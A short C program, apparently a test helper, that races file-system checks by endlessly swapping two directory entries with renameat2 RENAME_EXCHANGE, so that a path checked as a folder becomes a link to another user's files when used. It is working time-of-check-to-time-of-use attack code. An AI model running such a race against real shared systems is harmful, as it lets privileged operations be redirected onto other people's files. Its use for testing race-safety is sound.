/*
 * A hostile member: exchanges two of their own names as fast as the kernel goes, so that a path which was a
 * folder when it was checked is a link to someone else's when it is used.
 * swap DIRECTORY NAME OTHER: runs until it is killed; prints the number of exchanges each second.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <time.h>

int main(int count, char **arguments) {
  if (count != 4) return 2;
  int directory = open(arguments[1], O_RDONLY | O_DIRECTORY);
  if (directory < 0) return 3;
  unsigned long done = 0;
  for (time_t last = time(NULL);;) {
    /* the exchange fails while one of the two is being removed or made again: tried again at once */
    if (renameat2(directory, arguments[2], directory, arguments[3], RENAME_EXCHANGE) == 0) done++;
    time_t now = time(NULL);
    if (now == last) continue;
    last = now;
    printf("%lu\n", done);
    fflush(stdout);
  }
}
